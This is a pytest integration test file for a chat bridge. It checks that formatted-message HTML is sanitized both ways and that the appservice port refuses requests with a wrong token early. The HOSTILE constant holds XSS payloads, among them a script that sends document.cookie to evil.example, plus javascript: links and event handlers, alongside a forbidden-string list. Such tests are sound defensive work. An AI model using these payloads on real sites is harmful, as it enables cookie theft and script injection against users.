"""Hostile input at the bridge's edges, against a real Synapse and the bridge process (SQLite
and PostgreSQL): HTML of formatted messages is sanitized both ways (bridge/convert/formatting.py),
and the appservice port refuses a request without the right hs_token before reading its body
(bridge/appservice/as_auth.py)."""

from __future__ import annotations

import asyncio
import html
import re
import secrets
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from matrix.bridge_stack import (
    DATABASES,
    BridgeStack,
    bridge_stack,
    ghost_of,
    messages_from_others,
    native_client,
    nio_client,
    portal_with_native,
    room_history,
)
from nio import AsyncClient, RoomSendResponse
from ruamel.yaml import YAML

from kalandra_core.client.content import Content
from kalandra_core.client.driver import Client
from kalandra_core.client.events import Message

MARK = secrets.token_hex(4)
WITHIN = 60.0
DEEP = 150
HOSTILE = (
    f"<b>Hello {MARK}</b> "
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'
    '<a href="javascript:alert(1)" onclick="alert(2)">click me</a> '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==">data link</a> '
    '<img src="https://evil.example/track.png" onerror="alert(4)">'
    '<iframe src="https://evil.example/"></iframe>'
    '<span style="display:none">pay Mallory</span> '
    + "<blockquote>" * DEEP
    + "deep"
    + "</blockquote>" * DEEP
)
INNOCENT = f"Hello {MARK} pay Bob"  # the plain body a client without HTML would show
FORBIDDEN = ("<script", "javascript:", "data:", "onclick", "onerror", "<iframe", "style=", "evil")


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=DATABASES)
async def stack(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[BridgeStack]:
    async with bridge_stack(tmp_path_factory.mktemp("inputs"), request.param) as stack:
        yield stack


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def portal(stack: BridgeStack) -> AsyncIterator[tuple[AsyncClient, Client, str, str]]:
    native = await native_client(stack)
    async with nio_client(stack.synapse, stack.user) as alice:
        room_hex, room = await portal_with_native(alice, native, "inputs")
        yield alice, native, room_hex, room
    await native.close()


def words_of(formatted: str) -> str:
    """What the HTML shows, by an independent reading: tags out, entities in, whitespace one."""
    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", formatted)).split())


def depth_of(formatted: str) -> int:
    depth = best = 0
    for tag in re.findall(r"<(/?)([a-z0-9-]+)", formatted):
        if tag[1] in ("br", "hr", "img"):
            continue
        depth += -1 if tag[0] else 1
        best = max(best, depth)
    return best


def assert_sanitized(body: str, formatted: str | None) -> None:
    assert formatted is not None
    for needle in FORBIDDEN:
        assert needle not in formatted.lower(), needle
        assert needle not in body.lower(), needle
    assert depth_of(formatted) <= 100
    # The hidden text is not hidden any more, and the plain body says the same words.
    assert "pay Mallory" in formatted
    assert " ".join(body.split()) == words_of(formatted)
    assert "pay Bob" not in body
    for word in (f"Hello {MARK}", "click me", "data link", "deep"):
        assert word in body, word


@pytest.mark.asyncio(loop_scope="module")
async def test_hostile_html_is_sanitized_both_ways(
    stack: BridgeStack, portal: tuple[AsyncClient, Client, str, str]
) -> None:
    alice, native, room_hex, room = portal
    # Matrix -> Kalandra: what the native member receives.
    content = {
        "msgtype": "m.text",
        "body": INNOCENT,
        "format": "org.matrix.custom.html",
        "formatted_body": HOSTILE,
    }
    sent = await alice.room_send(room, "m.room.message", content)
    assert isinstance(sent, RoomSendResponse), sent
    received: list[Message] = []
    await asyncio.wait_for(messages_from_others(native, received, 1), WITHIN)
    (message,) = received
    assert_sanitized(message.content.body, message.content.formatted_body)

    # Kalandra -> Matrix: the ghost's event as Synapse stores it.
    await native.send(bytes.fromhex(room_hex), Content(body=INNOCENT, formatted_body=HOSTILE))
    ghost = ghost_of(native)
    async with asyncio.timeout(WITHIN):
        while not (  # noqa: ASYNC110
            events := [
                e.source["content"]
                for e in await room_history(alice, room)
                if e.source.get("sender") == ghost and e.source.get("type") == "m.room.message"
            ]
        ):
            await asyncio.sleep(0.5)
    (event,) = events
    assert event["format"] == "org.matrix.custom.html"
    assert_sanitized(event["body"], event["formatted_body"])
    assert "evil" not in stack.log.read_text(errors="replace")


def hs_token(stack: BridgeStack) -> str:
    with open(stack.config, encoding="utf-8") as fh:
        return str(YAML(typ="safe").load(fh)["appservice"]["hs_token"])


async def partial_request(
    stack: BridgeStack, method: str, target: str, headers: dict[str, str], declared: int
) -> tuple[int, bytes]:
    """Send the head of a request declaring a ``declared``-byte body and 1 KiB of that body;
    return the status the bridge answers meanwhile and whatever else it sent until it closed
    the connection (the rest of the body is never sent)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", stack.as_port)
    try:
        head = [f"{method} {target} HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/json"]
        head += [f"{name}: {value}" for name, value in headers.items()]
        head.append(f"Content-Length: {declared}")
        forged = f'{{"events": [{{"type": "m.room.message", "body": "forged {MARK}"'
        writer.write(("\r\n".join(head) + "\r\n\r\n").encode() + forged.ljust(1024).encode())
        await writer.drain()
        # Bounded wait (a hang is the failure: the bridge waiting for the body it must not read).
        async with asyncio.timeout(WITHIN):
            status_line = await reader.readline()
            rest = await reader.read()  # until the bridge closes the connection
        return int(status_line.split()[1]), rest
    finally:
        writer.close()


@pytest.mark.asyncio(loop_scope="module")
async def test_wrong_hs_token_is_refused_before_the_body_is_read(
    stack: BridgeStack, portal: tuple[AsyncClient, Client, str, str]
) -> None:
    token = hs_token(stack)
    big = 512 * 1024  # under max_body_size (32 MiB): only the token can refuse it early
    # The last character changed to one it is not (a fixed "x" would be the right token when
    # the token happens to end in "x").
    wrong = token[:-1] + ("y" if token.endswith("x") else "x")
    bearer = {"Authorization": f"Bearer {wrong}"}
    cases: list[tuple[str, str, dict[str, str], int]] = [
        ("PUT", f"/_matrix/app/v1/transactions/t1-{MARK}", bearer, 403),
        ("PUT", f"/_matrix/app/v1/transactions/t2-{MARK}", {}, 401),
        ("PUT", f"/_matrix/app/v1/transactions/t3-{MARK}?access_token=nope", {}, 403),
        # A wrong query token wins over a right header (as mautrix reads them).
        (
            "PUT",
            f"/_matrix/app/v1/transactions/t4-{MARK}?access_token=nope",
            {"Authorization": f"Bearer {token}"},
            403,
        ),
        ("PUT", f"/transactions/t5-{MARK}", bearer, 403),  # the legacy path
        ("GET", "/_matrix/app/v1/users/@kalandra_1:localhost", bearer, 403),
        ("GET", "/_matrix/app/v1/rooms/%23kalandra_00:localhost", {}, 401),
        ("GET", "/users/@kalandra_1:localhost", bearer, 403),
        ("POST", "/_matrix/app/v1/ping", bearer, 403),
    ]
    for method, target, headers, expected in cases:
        status, rest = await partial_request(stack, method, target, headers, big)
        assert status == expected, (method, target, status, rest[-200:])
    # max_body_size stays enforced: the right token with a declared 64 MiB body is refused
    # before the body is read too.
    right = {"Authorization": f"Bearer {token}"}
    target = f"/_matrix/app/v1/transactions/t6-{MARK}"
    status, _ = await partial_request(stack, "PUT", target, right, 64 * 1024 * 1024)
    assert status == 413

    # Nothing of those requests was bridged: the native member's next message is this one.
    alice, native, _, room = portal
    sent = await alice.room_send(room, "m.room.message", {"msgtype": "m.text", "body": MARK})
    assert isinstance(sent, RoomSendResponse), sent
    received: list[Message] = []
    await asyncio.wait_for(messages_from_others(native, received, 1), WITHIN)
    assert [m.content.body for m in received] == [MARK]
    assert f"forged {MARK}" not in stack.log.read_text(errors="replace")
